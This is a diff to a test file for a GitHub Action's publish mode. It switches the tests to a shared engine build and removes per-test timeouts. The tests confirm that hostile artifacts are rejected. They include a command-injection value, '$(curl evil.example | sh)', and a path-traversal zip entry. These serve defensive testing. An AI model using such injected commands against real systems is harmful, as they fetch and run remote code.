@@ -8,10 +8,12 @@ import { FakeGitHub } from './support/fake-github.js'
 import { historyLine } from './support/history-line.js'
 
 vi.mock('@actions/core', () => import('./support/core-fake.js'))
-
-// Mode publish with this action's real engine (built fresh, as the mode
-// does) and the fake API: what it writes comes only from the artifacts'
+// Mode publish with this action's real engine (the suite's one build,
+// copied where the mode would build it fresh: support/shared-engine.ts)
+// and the fake API: what it writes comes only from the artifacts'
 // validated history lines, and a hostile artifact writes nothing.
+vi.mock('../src/engine.js', async (original) => (await import('./support/shared-engine.js')).withSharedEngine(await original()))
+
 const { runPublish } = await import('../src/publish.js')
 const { getInputs } = await import('../src/inputs.js')
 
@@ -108,7 +110,7 @@ describe('mode publish', () => {
     expect(gh.issues[0].body).toContain('perfgate-results-trend-attempt-1')
     expect(gh.issues[0].body).not.toContain('ignored')
     expect(recorded.outputs.alarm).toBe('open')
-  }, 180_000)
+  })
 
   it('writes nothing when a history line is not one perfgate writes', async () => {
     const hostile = confirmed({ results: '$(curl evil.example | sh)' })
@@ -116,14 +118,14 @@ describe('mode publish', () => {
     await expect(runPublish(inputs(), event)).rejects.toThrow(/perfgate history add exited 2: .*results/)
     expect(gh.git.files('perfgate-data')).toBeUndefined()
     expect(gh.issues).toEqual([])
-  }, 180_000)
+  })
 
   it('writes nothing from a trend.json whose settings perfgate never writes', async () => {
     artifacts(undefined, { 'history-records.jsonl': confirmed() + '\n', 'trend.json': trendJson.replace('"alpha":0.001', '"alpha":0.9') })
     await expect(runPublish(inputs(), event)).rejects.toThrow(/perfgate trend --settings-from exited 2/)
     expect(gh.git.files('perfgate-data')).toBeUndefined()
     expect(gh.issues).toEqual([])
-  }, 180_000)
+  })
 
   it('refuses an artifact whose entries climb out of the directory', async () => {
     const zip = zipSync({ '../history-entry.json': strToU8(historyLine('tonight')) })
